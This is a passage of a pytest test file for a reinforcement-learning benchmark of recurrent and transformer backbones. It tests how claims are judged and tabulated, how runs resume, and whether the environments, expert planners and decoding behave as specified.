        ([0.1], 0), ([-0.1], 0))] == ["undecided", "borne out", "borne out", "not", "equal",
                                      "borne out", "not"]


def claim_run(score, **config):
    """What bench.read_run gives, of a run that reached this score in each domain."""
    config = {"data": "d", "tasks": ["a/x", "b/x"], "steps": 6, "top_fraction": 1.0, "context": 20,
              "batch_size": 12, "backbone_parameters": 100, **config}
    domains = dict.fromkeys(bench.domains_of(config["tasks"]), score)
    played = {"returns": [[1.0] * 39 + [10 * score]], "optimal": 10.0, "random": 1.0}
    return dict(
        name="x", config=config, scores=domains, heldout=dict.fromkeys(("darkroom", *domains), 0.1),
        perplexity={d: math.exp(1 - score) for d in domains}, curve=[(0, 3.0), (6, 2.0)],
        made=dict(seconds=60.0, commit="abc", machine="m", torch="t", date="d"),
        trials=dict.fromkeys(("darkroom/heldout", "darkroom/histories"), played),
        pair={"darkroom/heldout": played}, stagger={"mean": score, **domains},
        embed={of: {"domains": score * k, "neighbours": 0.5} for k, of in enumerate(
            ("raw input", "untrained", "trained"))})


def test_every_claim_is_judged(tmp_path, monkeypatch):
    """Runs of every variant with its real settings and number of parameters: nothing that a claim
    compares is refused, every part is decided, tables and pictures are whole.
    """
    monkeypatch.setattr(bench, "action_changes", dict)
    monkeypatch.setattr(bench, "tune", lambda args: {})
    drawn = partial(np.zeros, (1, 100_000))
    monkeypatch.setattr(data, "find_folder", lambda root, task: tmp_path)
    monkeypatch.setattr(data, "open_trajectory", lambda path: mock.Mock(rewards=drawn()[0]))
    (tmp_path / "1.hdf5").write_text("")
    runs = {}
    for name in bench.VARIANTS:
        words = bench.training(name, 0, dict.fromkeys(bench.FOUR, 1e-3))
        args = tyro.cli(train.Args, args=words[1:])
        config = lram.Config(args.backbone, args.size, args.dim, args.layers, args.heads,
                             args.slstm_at, args.context)
        with torch.device("meta"):
            size = lram.count_parameters(lram.Backbone(config))
        score = {"mlstm": 0.6, "xlstm": 0.7, "mamba": 0.5, "gpt": 0.4, "slstm": 0.5}[args.backbone]
        score += 0.1 * ("tuned" in name or "C 60" in name or "64" in name or "1,3" in name)
        for s in bench.SEEDS:
            runs[name, s] = claim_run(score + 0.001 * s, **{
                key: getattr(args, key) for key in ("tasks", "steps", "top_fraction", "context",
                                                    "batch_size")}, backbone_parameters=size)
    for name, claim in bench.CLAIMS.items():
        if claim.bench:
            continue
        own = {key: run for key, run in runs.items() if key[0] in claim.variants}
        entry = bench.judge(name, own, [])
        assert all(len(part["values"]) == 3 for part in entry["parts"].values()), name
        assert entry["verdict"] != "missing"
        bench.draw_claim(entry, tmp_path / "x.png")
        if name in ("C2", "C3", "C4", "C5", "C6", "C7"):        # as the scores were chosen
            assert entry["verdict"] == "borne out", (name, entry["parts"])
        text = "\n".join(bench.claims_table({name: entry}) + bench.claim_details({name: entry}))
        assert "missing" not in text.replace("| not measured yet | missing |", "").replace(
            "need a GPU | missing |", "")
        fewer = {key: run for key, run in own.items() if key[1] != 1}
        assert bench.judge(name, fewer, ["one"])["verdict"] == "missing"


def test_claims_of_speed():
    """C8 and C9 by hand: ratios at contexts and batches that all backbones have."""
    row = lambda b, batch, context, **more: dict(backbone=b, batch=batch, context=context, **more)
    made = dict(commit="abc", machine="m", torch="t", date="d", size="tiny")
    latency = [row(b, 1, c, median_ms=ms, state_bytes=size) for b, c, ms, size in (
        ("mlstm", 50, 2.0, 8), ("mlstm", 800, 2.2, 8), ("mlstm", 1600, 9.0, 8),
        ("gpt", 50, 2.0, 8), ("gpt", 800, 6.0, 80))] + [row("gpt", 1, 1600, failed="too large")]
    entry = bench.judge("C8", {"latency": {**made, "rows": latency}}, [])
    assert entry["verdict"] == "borne out"
    assert "gpt: latency times 3.0, at least 2" in entry["parts"]
    assert entry["tables"]["at 800 steps of context, times that at 50"]["gpt"]["state"] == [10.0]
    fast = [row(b, n, c, per_second=x) for b, n, c, x in (
        ("mlstm", 1, 0, 30.0), ("mlstm", 8, 0, 90.0), ("mlstm", 32, 0, 99.0),
        ("gpt", 1, 800, 30.0), ("gpt", 1, 1600, 10.0), ("gpt", 8, 1600, 10.0))]
    entry = bench.judge("C9", {"throughput": {**made, "rows": fast}}, [])
    assert [part["values"] for part in entry["parts"].values()] == [[2.0], [1.8]]
    fast[1]["per_second"] = 33.0
    assert bench.judge("C9", {"throughput": {**made, "rows": fast}}, [])["verdict"] == "not"


def test_claims_are_judged(tmp_path, monkeypatch):
    """Differences by hand, missing runs listed and never counted, unequal budgets refused."""
    runs = {}
    monkeypatch.setattr(bench, "tune", lambda args: {})
    for s in bench.SEEDS:
        for b in bench.FOUR:
            runs[f"{b} tuned", s] = claim_run(0.5 + 0.1 * s + 0.02 * (b == "gpt") * s)
            runs[f"{b} scratch", s] = claim_run(0.3 + 0.1 * s)
    entry = bench.judge("C6", runs, [])
    assert entry["parts"]["mlstm: pre-trained over scratch"]["values"] == [0.2, 0.2, 0.2]
    assert entry["parts"]["gpt: pre-trained over scratch"]["values"] == [0.2, 0.22, 0.24]
    assert entry["verdict"] == "borne out" and entry["minutes"] == 24.0
    assert (entry["commit"], entry["machine"], entry["runs"]) == ("abc", "m", 24)
    assert entry["tables"]["score on the unseen tasks"]["gpt"]["from scratch"] == [0.3, 0.4, 0.5]

    one = {key: run for key, run in runs.items() if key != ("gpt tuned", 1)}
    entry = bench.judge("C6", one, ["gpt_tuned-s1"])
    part = entry["parts"]["gpt: pre-trained over scratch"]
    assert part == {"values": [0.2, 0.24], "margin": 0.0, "verdict": "missing"}
    assert entry["verdict"] == "missing"
    assert bench.verdict_in_words(entry) == "unfinished: 1 runs missing"
    bench.draw_claim(entry, tmp_path / "c.png")
    assert (tmp_path / "c.png").stat().st_size > 1000
    monkeypatch.setattr(bench, "LEDGER", tmp_path / "results.json")
    table = bench.claims_table({"C6": entry})
    assert "not measured yet" in table[2] and "[missing]" in table[7]

    for key, other, said in (("data", "e", "data is e and d"), ("steps", 7, "steps is 7 and 6"),
                             ("backbone_parameters", 121, "121 and 100 parameters"),
                             ("batch_size", 24, "480 and 240 environment steps in a batch")):
        runs["mamba tuned", 2] = claim_run(0.5, **{key: other})
        with pytest.raises(SystemExit, match=f"cannot be compared: .*{said}"):
            bench.judge("C6", runs, [])


def test_claims_go_on_where_they_were(tmp_path, monkeypatch, capsys):
    """What is trained is not trained again, what was interrupted is resumed, what was killed before
    its first checkpoint begins anew, another command is refused, a failure is named.
    """
    monkeypatch.chdir(tmp_path)
    called = []

    def call(words, log, threads, keep=()):
        called.append(words)
        assert keep             # the lock, which outlives its maker in whoever trains
        if "broken" in words:
            raise RuntimeError("no such thing")
        if words[0] == "train.py":
            folder = Path("runs") / words[words.index("--name") + 1]
            assert folder.exists() == ("--resume" in words)
            folder.mkdir(parents=True, exist_ok=True)
        else:
            Path(words[words.index("--output") + 1]).write_text("{}")
        log.write_text("said\n# train.py took 1.5 seconds\n$ more\n# train.py took 2.0 seconds\n")
    monkeypatch.setattr(bench, "call", call)
    monkeypatch.setitem(bench.THEN, "again", "--trials 4")
    jobs = [(["train.py", "--name", f"claims/{k}"], Path(f"runs/claims/{k}"), ("again",))
            for k in "abc"]
    Path("runs/claims/b").mkdir(parents=True)
    Path("runs/claims/b/checkpoint.pt").write_text("")
    Path("runs/claims/c").mkdir()
    args = bench.Args(jobs=2)
    assert bench.make_runs(jobs, args) == {}
    assert sorted(words[-1] for words in called if words[0] == "train.py") == \
        ["--resume", "claims/a", "claims/c"]
    assert sum(words[0] == "eval.py" for words in called) == 3
    note = json.loads(Path("runs/claims/a/job.json").read_text())
    assert note["seconds"] == 3.5 and note["looks"] == {"again": "--trials 4"}
    called.clear()
    assert bench.make_runs(jobs, args) == {} and not called
    monkeypatch.setitem(bench.THEN, "again", "--trials 5")          # another look than was taken
    assert bench.make_runs(jobs[:1], args) == {}
    assert [words[0] for words in called] == ["eval.py"]
    failed = bench.make_runs([(["train.py", "--steps", "9"], jobs[0][1], ()),
                              (["train.py", "broken"], Path("runs/claims/d"), ()),
                              (["train.py", "--init-from", "runs/claims/d/checkpoint.pt"],
                               Path("runs/claims/e"), ())], args)
    assert "holds another run" in failed[jobs[0][1]]
    assert "starts from runs/claims/d, which is not finished" in failed[Path("runs/claims/e")]
    assert failed[Path("runs/claims/d")] == "no such thing"
    capsys.readouterr()
    bench.claims_main(bench.Args(claim=("C7",), report=True))
    assert "C7: none of its runs is there" in capsys.readouterr().out
    for args, said in ((bench.Args(claim=("C11",)), "--claim C11: choose from C1, C2"),
                       (bench.Args(claim=("C1",), jobs=0), "--jobs 0: at least one run")):
        with pytest.raises(SystemExit, match=said):
            bench.claims_main(args)


def test_flags_of_variants():
    """What is said last holds; every variant is a command that train.py takes."""
    assert bench.flags("--a 1 2 --b 3 --a 4") == ["--a", "4", "--b", "3"]
    folders, sizes = {bench.run_folder(name, 0) for name in bench.VARIANTS}, {}
    assert len(folders) == len(bench.VARIANTS)
    for name in bench.VARIANTS:
        words = bench.training(name, 0, dict.fromkeys(bench.FOUR, 1e-3))
        args = tyro.cli(train.Args, args=words[1:])
        assert args.steps and train.run_folder(args) == bench.run_folder(name, 0)
        config = lram.Config(args.backbone, args.size, args.dim, args.layers, args.heads,
                             args.slstm_at, args.context)
        sizes[name] = lram.count_parameters(lram.Backbone(config))
    # what is compared has the same number of parameters, about
    dark = [name for name in bench.VARIANTS if name.startswith("dark ")]
    for one, others in (*((f"gpt {w}", [f"{b} {w}" for b in bench.FOUR]) for w in bench.WIDTHS),
                        ("mlstm 64", bench.CLAIMS["C10"].variants), ("dark xlstm [7:1]@1", dark)):
        assert all(1 / 1.2 < sizes[one] / sizes[other] < 1.2 for other in others), one
    for claim in bench.CLAIMS.values():
        assert claim.bench or set(claim.variants) <= set(bench.VARIANTS)
        assert set(claim.then) <= set(bench.THEN)


def test_readme_agrees_with_the_ledger():
    """README's tables are what `python bench.py --readme` writes from figures/results.json, whose
    verdicts follow from its values.
    """
    ledger = json.loads((REPOSITORY / "figures/results.json").read_text())
    text = (REPOSITORY / "README.md").read_text()
    assert bench.readme_with(text, ledger) == text
    for name in bench.CLAIMS.keys() & ledger.keys():
        for label, part in ledger[name]["parts"].items():
            if part["verdict"] != "missing":
                assert part["verdict"] == bench.verdict(part["values"], part["margin"]), label
        assert ledger[name]["verdict"] == bench.overall(ledger[name]["parts"])
    changed = json.loads(json.dumps(ledger))
    changed["first run"]["runs"]["mlstm"]["mean_over_domains"] += 0.01
    assert bench.readme_with(text, changed) != text
    with pytest.raises(SystemExit, match="one pair of <!-- claims -->"):
        bench.readme_with(text.replace("<!-- claims -->", ""), ledger)


def test_bench_knows_the_bytes():
    """Bytes of state and weights against the formulas of the papers' blocks."""
    args = bench.Args(size="16m", backbones=lram.BACKBONES, contexts=(50, 1600))
    rows = {(r["backbone"], r["context"]): r["state_bytes"] for r in bench.memory(args, None)}
    D, E, L = 512, 1024, 8
    for C in (50, 1600):
        assert rows["mlstm", C] == L * 4 * (E * E // 4 + E + 4 + 3 * E)
        assert rows["mamba", C] == L * 4 * (16 * E + 3 * E)
        assert rows["gpt", C] == 4 * (2 * 3 * C * D * 4 + 8) + 8
    with torch.device("meta"):
        model = lram.LRAM(lram.Config("mlstm", "16m"))
        transformer = lram.LRAM(lram.Config("gpt", "16m"))
    assert bench.weight_bytes(model, "bfloat16") == 2 * (12939840 + 1024 * D)
    blocks = 4 * (12 * D * D + 13 * D) + 2 * D              # what a step reads: no positions
    assert bench.weight_bytes(transformer, "float32") == 4 * (blocks + 1024 * D)


def test_decoding():
    """Greedy: the likeliest of the task's own actions; a temperature samples by the softmax."""
    model = small_model("mlstm")
    agent = lram.Agent(model, dark_card())
    logits = torch.zeros(1, 18)
    logits[0, 12], logits[0, 3] = 9.0, 1.0
    assert agent._decode(logits).tolist() == [3]            # 12 is no action of this task
    logits = torch.full((4000, 2, 256), -torch.inf)
    logits[..., 10], logits[..., 200] = np.log(0.25), np.log(0.75)
    for temperature, expected in ((1.0, 0.75), (0.5, 0.9)):     # p^2 / (p^2 + q^2) = 9 / 10
        agent = lram.Agent(model, dark_card(action={"kind": "continuous", "dims": 2}),
                           temperature=temperature)
        assert abs((agent._decode(logits) > 0).mean() - expected) < 0.02


def test_what_an_agent_says_is_what_it_learned():
    """The head's row of an action is the row of its embedding, for a dimension and a bin each."""
    actions = np.array([[-1.0, 0.999], [0.3, -0.2]])
    rows = np.arange(lram.MAX_DISCRETE + lram.MAX_DIMS * 256)[lram.head_rows(2)].reshape(2, 256)
    assert rows[0, 0] == 18
    bins = lram.action_to_bin(actions)
    assert (lram.action_rows(actions) == rows[[0, 1], bins]).all()
    assert (lram.bin_to_action(bins) - actions < 1 / 256 + 1e-9).all()


def test_a_loaded_model_drops_nothing():
    """Dropout is for training: a model read from a checkpoint says the same twice."""
    config = lram.Config("mlstm", dim=32, layers=2, dropout=0.5, context=4)
    model = lram.model_from_checkpoint({"model": lram.LRAM(config).state_dict(),
                                        "model_config": asdict(config)})
    inputs = torch.randn(1, 4, 2), torch.zeros(1, 4), torch.ones(1, 4), 2
    assert torch.equal(model(*inputs)[0], model(*inputs)[0])


# ------------------------------------------------------------------------------------------ worlds
def test_darkroom_expert_is_exact():
    """The goal that is number k along the sweep gives 100 - k, on each of the 100 goals."""
    for split, count in (("train", 80), ("heldout", 20)):
        make = lambda: worlds.DarkRoom(split)
        episodes = worlds.rollout(make, partial(data.expert_policy, expert=data.DarkRoomExpert),
                                  range(count), 7)
        env = make()
        goals = {tuple(g) for g in env.goals.tolist()}
        assert len(goals) == count
        for e in episodes:
            env.reset(seed=e.seed)
            row, col = env.goal
            index = row * 10 + (col if row % 2 == 0 else 9 - col)
            assert e.rewards.sum() == 100 - index


def test_rollout_gives_every_seed_its_own_episode():
    """In lockstep with rows that end at different times, against each seed played alone."""
    class Countdown(gym.Env):
        observation_space, action_space = (gym.spaces.Box(-9, 9, (1,), np.float32),
                                           gym.spaces.Discrete(2))

        def reset(self, *, seed=None, options=None):
            super().reset(seed=seed)
            self.seed, self.t = seed, 0
            return np.array([seed], np.float32), {}

        def step(self, action):
            self.t += 1
            return (np.array([self.seed], np.float32), float(self.seed), self.t >= self.seed,
                    False, {})
    seeds, begun = [3, 1, 4, 2, 5, 1, 2], []

    def policy(envs):
        def act(obs, reward, done, lost_life):
            begun.append(int(done.sum()))
            assert len(begun) < 100 and not lost_life.any()     # rows reset wrongly never end
            return np.zeros(len(obs), int)
        return act
    episodes = list(worlds.rollout(Countdown, policy, seeds, num_envs=3))
    assert sorted(e.seed for e in episodes) == sorted(seeds)
    for e in episodes:
        assert len(e.rewards) == e.seed and (e.states == e.seed).all() and \
            e.rewards.sum() == e.seed ** 2
        assert e.terminated


def test_rollout_tells_of_lost_lives():
    """To the step after the loss, row by row; not across episodes, not where a life is won."""
    class Lives(gym.Env):
        observation_space, action_space = (gym.spaces.Box(-9, 9, (1,), np.float32),
                                           gym.spaces.Discrete(2))
        LEFT = {1: [3, 3, 2, 2, 1, 1], 2: [3, 2, 2, 3, 3, 2], 3: [0, 0, 0, 0, 0, 0]}

        def reset(self, *, seed=None, options=None):
            super().reset(seed=seed)
            self.seed, self.t = seed, 0
            return np.array([seed], np.float32), {"lives": 3}

        def step(self, action):
            self.t += 1
            lives = self.LEFT[self.seed][self.t - 1]
            return np.array([self.seed], np.float32), 0.0, self.t == 6, False, {"lives": lives}
    told = {1: [], 2: [], 3: []}

    def policy(envs):
        def act(obs, reward, done, lost_life):
            for seed, lost in zip(obs[:, 0], lost_life):
                told[int(seed)].append(bool(lost))
            return np.zeros(len(obs), int)
        return act
    list(worlds.rollout(Lives, policy, [1, 2, 3], num_envs=2))
    assert [np.flatnonzero(told[seed][:6]).tolist() for seed in (1, 2, 3)] == [[3, 5], [2], []]


WORLD_TASKS = ("darkroom/train", "metaworld/reach-v3", "dmcontrol/cartpole-balance",
               "atari/freeway", "atari/breakout", "procgen/maze", "procgen/starpilot",
               "composuite/Panda_Box_None_PickPlace", "mimicgen/Sawyer_Stack_D0")


@pytest.mark.parametrize("task", WORLD_TASKS)
def test_world_contract(task):
    """Spaces as promised; the seed alone determines an episode, on a used instance too."""
    needs(task)
    env, other = worlds.make_env(task), worlds.make_env(task)

    def trajectory(env, seed, steps=60):
        obs, _ = env.reset(seed=seed)
        rng, out = np.random.default_rng(seed), [obs]
        for _ in range(steps):
            space = env.action_space
            a = rng.integers(space.n) if isinstance(space, gym.spaces.Discrete) else \
                rng.uniform(-1, 1, space.shape).astype(np.float32)
            obs, reward, terminated, truncated, _ = env.step(a)
            assert np.isfinite(reward) and (not terminated or task.startswith("procgen"))
            out.append(obs)
            if terminated:
                break
        return np.stack(out)
    a, b = trajectory(env, 5), trajectory(env, 6)
    assert a.dtype == env.observation_space.dtype and a.shape[1:] == env.observation_space.shape
    assert a.dtype == np.uint8 and a.shape[1:] == (1, 64, 64) or \
        a.dtype == np.float32 and a.shape[1] <= 204
    assert np.array_equal(trajectory(env, 5), a) and np.array_equal(trajectory(other, 5), a)
    assert not np.array_equal(a, b)
    space = env.action_space
    assert isinstance(space, gym.spaces.Discrete) and space.n <= 18 or \
        (space.low == -1).all() and (space.high == 1).all() and space.shape[0] <= 8
    env.close()
    other.close()


@pytest.mark.parametrize("shape", ((15, 10), (210, 160), (64, 40)))
def test_pictures_are_resized_by_area(shape):
    """Against means of whole blocks, each pixel having been cut into 64 x 64 first."""
    images = np.random.default_rng(0).integers(0, 256, (2, *shape)).astype(np.uint8)
    blocks = images.repeat(64, 1).repeat(64, 2).reshape(2, 64, shape[0], 64, shape[1])
    expected = np.rint(blocks.mean((2, 4))).astype(np.uint8)[:, None]
    assert np.array_equal(worlds.to_frames(images), expected)
    assert np.array_equal(worlds.to_frames(images[..., None].repeat(3, -1)), expected)


def test_atari_is_what_gymnasium_makes_of_it(monkeypatch):
    """Pictures, points and lives, against AtariPreprocessing; ours needs no OpenCV."""
    pytest.importorskip("ale_py")
    cv2 = pytest.importorskip("cv2", exc_type=ImportError)
    ours = worlds.make_env("atari/breakout")
    plain = gym.make("ALE/Breakout-v5", frameskip=1, repeat_action_probability=0.0,
                     full_action_space=True)
    plain = gym.wrappers.AtariPreprocessing(plain, screen_size=64)
    first, _ = plain.reset(seed=5)
    monkeypatch.setitem(sys.modules, "cv2", None)           # `import cv2` fails
    begun, _ = ours.reset(seed=5)
    seen = [ours.step(a % 18) for a in range(120)]
    monkeypatch.setitem(sys.modules, "cv2", cv2)
    assert np.array_equal(begun[0], first)
    for a, (picture, reward, terminated, _, info) in enumerate(seen):
        obs, points, over, _, told = plain.step(a % 18)
        assert np.array_equal(picture[0], obs) and reward == points
        assert terminated == over and info["lives"] == told["lives"]


def test_episodes_end_in_time():
    """Meta-World's after 200 steps (the paper's limit), any world's after a limit that is given."""
    for task, limit, steps in (("darkroom/train", 7, 7), ("metaworld/reach-v3", None, 200)):
        needs(task)
        env, count, truncated = worlds.make_env(task, limit=limit), 0, False
        env.reset(seed=0)
        while not truncated and count < 300:
            *_, truncated, _ = env.step(np.zeros_like(env.action_space.sample()))
            count += 1
        assert count == steps


def test_seeds_and_goals_are_kept_apart():
    """No episode is of two kinds (data, references, scores); no held-out goal is trained on."""
    tried = {seed + k * data.NEXT_TRY for seed in (0, data.NEXT_TRY - 1) for k in range(data.TRIES)}
    starts = sorted((0, worlds.EVALUATION_SEED, data.EXPERT_SEED, data.RANDOM_SEED,
                     data.CONSTANT_SEED))
    assert max(tried) < worlds.EVALUATION_SEED == starts[1]
    assert min(b - a for a, b in zip(starts, starts[1:])) >= data.NEXT_TRY
    train_goals, heldout = ({tuple(g) for g in worlds.DarkRoom(split).goals.tolist()}
                            for split in ("train", "heldout"))
    assert len(train_goals) == 80 and len(heldout) == 20 and len(train_goals | heldout) == 100


def test_procgen_draws_levels_and_ends_as_it_should():
    """Levels 0 to 199 by the seed, on a used instance too; the clock truncates, a goal ends."""
    needs("procgen/maze")
    env = worlds.make_env("procgen/maze")
    levels = [env.reset(seed=seed)[1]["level"] for seed in range(300)]
    assert min(levels) >= 0 and max(levels) < 200 and len(set(levels)) > 100
    first, _ = env.reset(seed=7)
    assert np.array_equal(first, worlds.make_env("procgen/maze").reset(seed=7)[0])
    luma = env.unwrapped.picture @ (0.299, 0.587, 0.114)
    assert np.abs(first[0] - luma).max() <= 0.5 + 1e-6
    ends = [env.step(data.PROCGEN_STAY)[2:4] for _ in range(500)]
    assert ends[-1] == (False, True) and not np.any(ends[:-1])
    obs, info = env.reset(seed=7)
    expert, terminated, level = data.MazeExpert(env), False, info["level"]
    while not terminated:
        before, (obs, reward, terminated, truncated, info) = obs, env.step(expert(obs, 0.0))
    assert reward == 10 and info == {"success": 1.0, "level": level} and not truncated
    assert np.array_equal(obs, before)                  # and not the first picture of another level


def maze_distance(env):
    """Steps to the cheese, counted in the grid of cells that the simulator keeps in its memory."""
    state, side, wall, cheese = env.unwrapped.sim.state()[0], 15, 51, 2
    head = np.array([side, side, side * side], np.int32).tobytes()
    cells = np.frombuffer(state, np.int32, side * side, state.index(head) + len(head))
    frontier, distance = {int(np.flatnonzero(cells != wall)[0])}, {}        # the lower left corner
    while frontier:
        distance.update(dict.fromkeys(frontier, len(set(distance.values()))))
        near = {cell + d for cell in frontier for d in (1, -1, side, -side)}
        frontier = {c for c in near - set(distance) if 0 <= c < side ** 2 and cells[c] != wall}
    return distance[int(np.flatnonzero(cells == cheese)[0])]


def test_maze_expert_takes_the_shortest_way():
    """Against breadth-first search in the true grid, in place of pictures."""
    needs("procgen/maze")
    env = worlds.make_env("procgen/maze")
    for seed in (901, 902, 903):
        obs, _ = env.reset(seed=seed)
        distance, expert, steps, terminated = maze_distance(env), data.MazeExpert(env), 0, False
        while not terminated:
            obs, reward, terminated, _, _ = env.step(expert(obs, 0.0))
            steps += 1
        assert reward == 10 and steps == distance


@pytest.mark.parametrize("task", ("atari/boxing", "procgen/chaser"))
def test_planners_play_well_and_touch_nothing(task):
    """More than random actions get, and the same as their actions get where nothing is planned."""
    needs(task)
    make = partial(worlds.make_env, task, limit=60)
    expert = partial(data.expert_policy, expert=data.recipe_of(task).expert)
    planned, = worlds.rollout(make, expert, [900])
    actions = iter(planned.actions)
    again, = worlds.rollout(make, lambda envs: lambda *_: np.array([next(actions)]), [900])
    assert np.array_equal(planned.states, again.states)
    assert np.array_equal(planned.rewards, again.rewards)
    chance = worlds.rollout(make, worlds.random_policy, range(5))
    assert planned.rewards.sum() > max(e.rewards.sum() for e in chance)


def test_planner_plans_when_it_has_to():
    """On a line with a reward at place 5: every COMMIT decisions, or where it is not expected."""
    world = {"place": 0, "plans": 0}

    def simulate(plans):
        world["plans"] += 1
        places = world["place"] + np.cumsum(plans, axis=1)             # (plans, HORIZON)
        views = np.insert(places, 0, world["place"], axis=1)[:, :, None]
        return ((places == 5) * 0.99 ** np.arange(places.shape[1])).sum(1), views
    look, rng = lambda: np.array([world["place"]]), np.random.default_rng(0)
    policy = data.planner(rng, look, simulate, (-1, 0, 1), 0, 200)
    for t in range(1, 21):
        world["place"] += policy(None, 0.0)
        assert world["plans"] == -(-t // data.COMMIT)
    assert world["place"] == 5
    policy(None, 0.0)
    world["place"] = 9                                                 # pushed away
    for t in range(12):
        world["place"] += policy(None, 0.0)
    assert world["place"] == 5 and world["plans"] == 6 + 3


@pytest.mark.parametrize("task,least", (
    ("metaworld/reach-v3", 1500), ("metaworld/door-open-v3", 1000),
    ("metaworld/drawer-close-v3", 1000), ("metaworld/window-open-v3", 400),
    ("metaworld/button-press-topdown-v3", 1000), ("dmcontrol/cartpole-balance", 990),
    ("dmcontrol/cartpole-swingup", 700), ("dmcontrol/point_mass-easy", 600),
    ("dmcontrol/reacher-easy", 500), ("atari/freeway", 27), ("procgen/maze", 9.9),
    ("mimicgen/Panda_Stack_D0", 0.99)))
def test_experts_do_the_task(task, least):
    """Far above the random policy, on seeds that the data do not use."""
    needs(task)
    expert = partial(data.expert_policy, expert=data.recipe_of(task).expert)
    returns = [e.rewards.sum()
               for e in worlds.rollout(partial(worlds.make_env, task), expert, [900, 901], 2)]
    assert np.mean(returns) > least, returns


def test_composuite_is_all_combinations():
    """256 names, of which Panda with ObjectWall is held out; each factor is built as named: the
    one-hots say it, an obstacle stands where None has zeros, the arm has its own base.
    """
    domain = worlds.DOMAINS["composuite"]
    assert len(domain.tasks) == 240 and len(domain.heldout) == 16
    names = {name for name in domain.tasks + domain.heldout}
    assert len(names) == 256 and all("Panda_" in n and "_ObjectWall_" in n for n in domain.heldout)
    assert [len({name.split("_")[k] for name in names}) for k in range(4)] == [4] * 4
    needs("composuite/all")
    for k in range(4):                                  # every value of every factor
        choice = [values[(k + shift) % 4] for shift, values in enumerate(worlds.COMPOSUITE_FACTORS)]
        env = worlds.make_env("composuite/" + "_".join(choice))
        obs, _ = env.reset(seed=3)
        assert obs.shape == (93,) and obs.dtype == np.float32
        assert np.flatnonzero(obs[45:61]).tolist() == [4 * i + (k + i) % 4 for i in range(4)]
        assert (obs[14:28] == 0).all() == (choice[2] == "None")
        assert np.allclose(obs[42:45], obs[28:31] - obs[:3], atol=1e-6)
        assert np.allclose(obs[61:68] ** 2 + obs[68:75] ** 2, 1, atol=1e-5)      # cos, sin
        # what the hand sees of the object, carried back into the world
        import mujoco
        back, turned = np.zeros(3), np.zeros(4)
        mujoco.mju_rotVecQuat(back, obs[7:10].astype(float), obs[85:89].astype(float))
        mujoco.mju_mulQuat(turned, obs[85:89].astype(float), obs[10:14].astype(float))
        assert np.allclose(obs[82:85] + back, obs[:3], atol=1e-5)
        assert np.allclose(turned, obs[3:7], atol=1e-5)
        obs, reward, terminated, _, info = env.step(np.zeros(8, np.float32))
        assert np.isfinite(obs).all() and 0 <= reward < 0.2 and not terminated
        assert info["success"] == 0.0
        env.close()


def test_composuite_is_solved_and_goes_on(task="composuite/Kinova3_Box_ObjectDoor_Push"):
    """The script lets go of the object in its place; from then on each step is worth 1."""
    needs(task)
    make = partial(worlds.make_env, task, limit=200)
    expert = partial(data.expert_policy, expert=data.recipe_of(task).expert)
    episode, = worlds.rollout(make, expert, [901])
    assert episode.success and not episode.terminated and len(episode.rewards) == 200
    first = int(np.argmax(episode.rewards == 1))
    assert 50 < first and (episode.rewards[first:] == 1).all()
    # it was reached for, grasped and brought there, each worth more than what comes before it
    assert (episode.rewards[:first] < 1).all() and (episode.rewards[:first] > 0.3).any()
    assert np.abs(episode.actions).max() <= 1


def test_noise_is_executed_and_not_recorded():
    """The wrapper executes clip(a + sigma N), by the seed; sigma is 0 in a quarter of episodes."""
    class Echo(gym.Env):
        observation_space, action_space = gym.spaces.Box(-9, 9, (2,)), gym.spaces.Box(-1, 1, (2,))

        def reset(self, *, seed=None, options=None):
            return np.zeros(2), {}

        def step(self, action):
            self.got = action
            return np.zeros(2), 0.0, False, False, {}
    echo = Echo()
    env, sigmas, runs = data.NoisyActions(echo, 0.3), [], []
    for seed in [*range(400), 7]:
        env.reset(seed=seed)
        sigmas.append(env.sigma)
        *_, info = env.step(np.array([0.5, 0.9]))
        runs.append(echo.got)
        assert np.array_equal(info["executed"], echo.got)
        assert (np.abs(echo.got) <= 1).all() and \
            (env.sigma > 0) == (not np.allclose(echo.got, [0.5, 0.9]))
    assert np.array_equal(runs[7], runs[-1])
    assert 0.18 < np.mean(np.array(sigmas) == 0) < 0.32 and 0.25 < max(sigmas) <= 0.3


def test_planner_reads_the_simulator_and_never_touches_it():
    """A twin that nobody plans in goes the same way, bit for bit; noise does not spoil the plan."""
    task = "dmcontrol/pendulum-swingup"
    needs(task)
    import mujoco
    everything = mujoco.mjtState.mjSTATE_INTEGRATION

    def state(env):
        physics = env.unwrapped.sim.physics
        out = np.zeros(mujoco.mj_stateSize(physics.model.ptr, everything))
        mujoco.mj_getState(physics.model.ptr, physics.data.ptr, out, everything)
        return out
    env, twin = worlds.make_env(task), worlds.make_env(task)
    obs, _ = env.reset(seed=1)
    twin.reset(seed=1)
    policy, total, rng = data.recipe_of(task).expert(env), 0.0, np.random.default_rng(0)
    assert np.array_equal(data.recipe_of(task).expert(twin)(obs, 0.0), policy(obs, 0.0))
    for _ in range(400):
        before = state(env)
        action = policy(obs, 0.0)
        assert np.array_equal(state(env), before)
        action = np.clip(action + 0.1 * rng.standard_normal(1), -1, 1).astype(np.float32)
        obs, reward, *_ = env.step(action)
        assert np.array_equal(twin.step(action)[0], obs)
        total += reward
    assert total > 200                      # a random policy: about 3


def test_planned_rewards_know_the_bodies():
    """Against the suite's own reward, or what it is made of, in random poses."""
    needs("dmcontrol/walker-stand")

    def poses(name):
        env = worlds.make_env(f"dmcontrol/{name}")
        for seed in range(12):
            env.reset(seed=seed)
            sim = env.unwrapped.sim
            q, v = sim.physics.data.qpos, sim.physics.data.qvel
            yield sim, data.PLANS[name].reward(q[None, None], v[None, None], sim.physics.model.ptr)
    for name in ("walker-stand", "fish-upright"):
        for sim, ours in poses(name):
            assert np.isclose(ours.item(), sim.task.get_reward(sim.physics))
    for sim, ours in poses("finger-turn_easy"):
        radius = sim.physics.model.site_size[sim.physics.model.name2id("target", "site"), 0]
        finger = sim.physics.named.data.site_xpos["touchtop"][[0, 2]]
        away = np.hypot(*(finger - (0.2, 0.4))) - 0.1
        distance = sim.physics.dist_to_target() + radius
        assert abs(ours.item() - (distance < radius) + 5 * distance + max(away, 0)) < 0.02


def odd_world(observation, action, **kwargs):
    """A class of environments with these spaces, to be registered."""
    class Odd(gym.Env):
        observation_space, action_space = observation, action
        metadata = {"render_modes": ["rgb_array"]}

        def __init__(self, render_mode=None):
            self.render_mode = render_mode

        def reset(self, *, seed=None, options=None):
            super().reset(seed=seed)
            observation.seed(seed)
            return observation.sample(), {"a": {"mess": [seed]}}

        def step(self, action):
            self.got = action
            return observation.sample(), 1, False, False, {}
    return Odd


@pytest.fixture
